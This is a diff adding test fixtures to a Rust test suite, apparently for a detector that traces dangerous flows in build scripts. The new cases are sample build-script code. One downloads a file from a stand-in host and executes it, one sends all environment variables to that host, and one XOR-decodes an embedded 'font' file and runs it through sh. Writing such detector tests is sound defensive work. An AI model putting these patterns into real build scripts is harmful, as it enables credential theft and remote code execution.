@@ -36,6 +36,24 @@ fn rust_build_scripts_are_followed() {
             &["environment.read > network.socket"],
         ),
         (
+            "fn init() { let r = ureq::get(\"http://x.example.invalid\").call().unwrap(); let mut b = Vec::new(); r.into_reader().read_to_end(&mut b).ok();\n\
+             let p = std::env::temp_dir().join(\"svc\"); let mut f = std::fs::File::create(&p).unwrap(); f.write_all(&b).unwrap(); std::process::Command::new(p).spawn().ok(); }",
+            &[
+                "network.http > process.spawn [file]",
+                "network.http > process.spawn [order]",
+            ],
+        ),
+        (
+            "pub async fn init() { let mut m = HashMap::new(); for (k, v) in std::env::vars() { m.insert(k, v); }\n\
+             let _ = reqwest::Client::new().post(\"http://x.example.invalid\").json(&m).send().await; }",
+            &["environment.read-all > network.http"],
+        ),
+        (
+            "fn main() { let d = include_bytes!(\"font.bin\"); let o: Vec<u8> = d.iter().map(|b| b ^ 0x5a).collect(); let p = std::env::temp_dir().join(\"f\");\n\
+             std::fs::write(&p, o).unwrap(); std::process::Command::new(\"sh\").arg(&p).spawn().ok(); }",
+            &["decode.cipher > process.spawn [file]"],
+        ),
+        (
             "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); let out = std::env::var(\"OUT_DIR\").unwrap();\n\
              std::process::Command::new(\"cmake\").arg(\"..\").current_dir(out).status().unwrap(); cc::Build::new().file(\"a.c\").compile(\"a\"); }",
             &[],
